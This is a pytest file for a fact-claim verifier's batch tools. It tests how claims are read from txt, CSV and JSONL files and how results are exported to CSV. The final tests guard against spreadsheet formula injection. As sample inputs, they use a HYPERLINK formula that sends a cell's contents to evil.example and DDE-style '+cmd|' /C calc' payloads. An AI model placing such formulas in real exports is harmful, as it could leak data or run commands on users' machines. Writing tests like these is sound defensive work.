"""The claim-file readers and the record/CSV writers of verifier/batch/claims.py (no model)."""

import csv
import io
import json

import pytest

from verifier import InputError, Settings, Statement
from verifier.batch import (
    BadItem, ClaimItem, claims_format, csv_header, csv_row, csv_safe, extra_columns, read_claims, record, to_csv,
)
from verifier.results import Evidence, Reason, Result, Stance, Verdict


def items(text, fmt, **settings):
    return list(read_claims(io.StringIO(text, newline=""), fmt, Settings(**settings)))


def a_result(claim="Over 1,000 Afghan troops fled", claim_id=None):
    statement = Statement("1,037 Afghan troops fled into Tajikistan.", id="s1", source="AFP", url="https://x.example/1",
                          date="2021-07-05")
    evidence = Evidence(statement, 1, 0.91, 0.88, Stance.SUPPORTS, 0.8)
    return Result(claim, Verdict.SUPPORTED, 0.8, (Reason("AFP supports the claim.", "s1", "AFP"),), (evidence,), claim_id)


def test_format_follows_the_file_name_and_refuses_others():
    assert [claims_format(n) for n in ("a.txt", "b.CSV", "c.jsonl")] == ["txt", "csv", "jsonl"]
    with pytest.raises(InputError, match="must end in .txt, .csv or .jsonl"):
        claims_format("claims.tsv")


def test_txt_gives_one_claim_a_line_numbered_by_physical_line_skipping_blank_ones():
    got = items("First claim here\n\n   \n  Second   claim\n", "txt")
    assert [(i.key, i.line, i.claim) for i in got] == [("line:1", 1, "First claim here"), ("line:4", 4, "Second claim")]


def test_a_byte_order_mark_is_not_part_of_the_first_claim_or_header():
    assert items("\ufeffFirst claim\n", "txt")[0].claim == "First claim"
    assert items("\ufeffclaim,id\nA claim,7\n", "csv")[0].key == "7"


def test_an_over_long_claim_is_a_bad_line_saying_the_limit():
    got = items("short one\n" + "x" * 30 + "\n", "txt", max_claim_chars=20)
    assert isinstance(got[0], ClaimItem)
    assert isinstance(got[1], BadItem) and got[1].line == 2 and "limit is 20" in got[1].error


def test_csv_reads_claim_and_id_whatever_their_case_and_carries_other_columns_in_order():
    got = items(" ID ,Claim,desk,notes\n7,Troops fled,world,n1\n,Another claim,politics,\n", "csv")
    assert [(i.key, i.id, i.claim, i.extra) for i in got] == [
        ("7", "7", "Troops fled", {"desk": "world", "notes": "n1"}),
        ("line:3", None, "Another claim", {"desk": "politics", "notes": ""}),
    ]


def test_csv_row_with_a_quoted_newline_is_numbered_by_its_first_line_and_the_next_row_stays_right():
    text = 'claim\n"He said ""no"", then\nleft, twice"\n\nSecond claim\n'
    got = items(text, "csv")
    assert [(i.line, i.claim) for i in got] == [(2, 'He said "no", then left, twice'), (5, "Second claim")]


@pytest.mark.parametrize("text, words", [
    ("id,claim\n1,a claim,extra field\n", "row has 3 fields, the header has 2"),
    ("id,desk,claim\n1,world\n", "fewer fields than the header"),
    ("id,claim\n1,\n", "claim is empty"),
])
def test_bad_csv_rows_are_bad_items_keyed_by_their_id(text, words):
    (bad,) = items(text, "csv")
    assert isinstance(bad, BadItem) and words in bad.error and bad.key == "1" and bad.line == 2


def test_csv_without_a_claim_column_is_one_bad_item_naming_the_columns_found():
    (bad,) = items("text,id\nA claim,1\n", "csv")
    assert isinstance(bad, BadItem) and bad.line == 1 and "no 'claim' column" in bad.error and "text, id" in bad.error


def test_a_csv_claim_longer_than_the_csv_modules_field_limit_is_an_over_long_claim_not_the_end_of_the_file():
    got = items("claim\n" + "y" * 200_000 + "\nnext claim\n", "csv")
    assert isinstance(got[0], BadItem) and "limit is 1000" in got[0].error
    assert got[1].claim == "next claim"


def test_jsonl_bad_lines_say_what_is_wrong_and_good_ones_carry_their_other_fields():
    text = "\n".join([
        '{"id": "a", "claim": "Troops fled", "desk": "world", "tags": ["x"]}',
        "{broken",
        "[1, 2]",
        '{"id": "d"}',
        '{"id": "e", "claim": 5}',
        '{"id": 12, "claim": "Numbered id"}',
        '{"id": true, "claim": "Odd id"}',
        '{"claim": "bad \\ud800 text"}',
        "",
        '{"claim": "No id"}',
    ]) + "\n"
    got = items(text, "jsonl")
    assert got[0] == ClaimItem("a", 1, "Troops fled", "a", {"desk": "world", "tags": ["x"]})
    assert "invalid JSON" in got[1].error and got[1].key == "line:2"
    assert "expected a JSON object, got list" in got[2].error
    assert got[3].error == "no 'claim' field" and got[3].key == "d"
    assert "must be a string" in got[4].error and got[4].claim == 5
    assert got[5].key == "12" and got[5].id == "12"
    assert isinstance(got[6], BadItem) and "id must be a string or a number" in got[6].error
    assert isinstance(got[7], BadItem) and "surrogate" in got[7].error and got[7].claim is None
    assert got[8].key == "line:10" and got[8].claim == "No id"


def test_extra_columns_are_a_csvs_other_columns_or_every_jsonl_field_in_first_seen_order():
    assert extra_columns(io.StringIO("desk,Claim,id,notes\n"), "csv") == ["desk", "notes"]
    jsonl = '{"claim": "a", "b": 1}\n{broken\n{"id": 2, "claim": "c", "a": 2, "b": 3}\n'
    assert extra_columns(io.StringIO(jsonl), "jsonl") == ["b", "a"]
    assert extra_columns(io.StringIO("a claim\n"), "txt") == []


def test_record_of_a_checked_claim_carries_the_result_and_the_extras():
    item = ClaimItem("7", 2, "Over 1,000 Afghan troops fled", "7", {"desk": "world"})
    rec = record(item, a_result())
    assert rec["key"] == "7" and rec["line"] == 2 and rec["id"] == "7" and rec["error"] is None
    assert rec["verdict"] == "supported" and rec["evidence"][0]["statement"]["id"] == "s1"
    assert rec["extra"] == {"desk": "world"}
    assert json.loads(json.dumps(rec)) == rec


def test_record_of_a_bad_line_carries_its_error_and_raw_claim():
    rec = record(BadItem("line:3", 3, "claim must be a string, got int", 5))
    assert rec == {"key": "line:3", "line": 3, "id": None, "claim": 5, "error": "claim must be a string, got int"}


def test_csv_row_flattens_the_top_statement_and_renames_extras_that_clash_with_output_columns():
    item = ClaimItem("7", 2, "Over 1,000 Afghan troops fled", "7", {"verdict": "true", "desk": "world", "n": None,
                                                                      "tags": ["a", "b"]})
    row = csv_row(record(item, a_result()))
    assert row["verdict"] == "supported" and row["input_verdict"] == "true"
    assert row["top_statement_id"] == "s1" and row["top_source"] == "AFP" and row["top_url"] == "https://x.example/1"
    assert row["top_date"] == "2021-07-05" and row["top_score"] == 0.91 and row["top_stance"] == "supports"
    assert row["reasons"] == "AFP supports the claim." and row["line"] == 2
    assert row["desk"] == "world" and row["n"] == "" and row["tags"] == '["a", "b"]'
    assert csv_header(["verdict", "desk"])[-2:] == ["input_verdict", "desk"]


def test_to_csv_round_trips_claims_with_commas_quotes_and_newlines():
    nasty = 'He said "no, never",\nthen left; 1,000 times'
    records = [
        record(ClaimItem("1", 2, "Plain, with a comma", "1", {"note": 'quote " and\r\nCRLF'}), a_result("Plain, with a comma")),
        record(BadItem("line:3", 3, "claim is 2000 characters long", nasty)),
    ]
    rows = list(csv.DictReader(io.StringIO(to_csv(records), newline="")))
    assert [r["claim"] for r in rows] == ["Plain, with a comma", nasty]
    assert rows[0]["note"] == 'quote " and\r\nCRLF' and rows[1]["error"].startswith("claim is 2000")
    assert list(rows[0])[: len(csv_header([]))] == csv_header([])


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_safe_quotes_text_a_spreadsheet_would_run_as_a_formula_and_leaves_numbers(start):
    assert csv_safe(start + "1+2") == "'" + start + "1+2"
    assert csv_safe("-3") == "'-3" and csv_safe(-3) == -3 and csv_safe(-0.5) == -0.5
    assert csv_safe("a=1") == "a=1" and csv_safe("'=1") == "'=1" and csv_safe("") == "" and csv_safe(None) is None


def formula_records():
    statement = Statement(EVIL, id="@s1", source="+cmd|' /C calc'!A0", url="-2+3+cmd|' /C calc'!A0", date="2021-07-05")
    evidence = Evidence(statement, 1, -0.25, 0.88, Stance.SUPPORTS, 0.8)
    result = Result(EVIL, Verdict.SUPPORTED, 0.8, (Reason("=1+1", "@s1", "+x"),), (evidence,), "=id")
    good = record(ClaimItem("=id", 2, EVIL, "=id", {"note": "@SUM(1)", EVIL: "\tx", "n": -3, "t": "-3"}), result)
    bad = record(BadItem("-7", 3, "claim is 2000 characters long", "\r" + EVIL, "-7", {"note": "fine"}))
    return good, bad


def test_every_text_cell_of_a_csv_row_and_header_is_safe_and_numbers_stay_numbers():
    good, bad = formula_records()
    row = csv_row(good)
    assert row["claim"] == "'" + EVIL and row["id"] == "'=id" and row["reasons"] == "'=1+1"
    assert (row["top_statement"], row["top_statement_id"]) == ("'" + EVIL, "'@s1")
    assert row["top_source"] == "'+cmd|' /C calc'!A0" and row["top_url"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["note"] == "'@SUM(1)" and row["'" + EVIL] == "'\tx" and row["t"] == "'-3"
    assert row["n"] == -3 and row["top_score"] == -0.25 and row["confidence"] == 0.8 and row["line"] == 2
    assert csv_row(bad)["claim"] == "'\r" + EVIL and csv_row(bad)["id"] == "'-7"
    assert csv_header([EVIL, "-x"])[-2:] == ["'" + EVIL, "'-x"]
    # The web page's download: the same cells, header included.
    rows = list(csv.reader(io.StringIO(to_csv([good, bad]), newline="")))
    cells = [cell for r in rows for cell in r]
    numbers = {"-0.25", "-3"}  # the score, and a number the JSONL input gave: a number, never a formula
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and c not in numbers]
    # JSONL records stay verbatim.
    assert good["claim"] == EVIL and good["extra"]["note"] == "@SUM(1)" and bad["claim"] == "\r" + EVIL
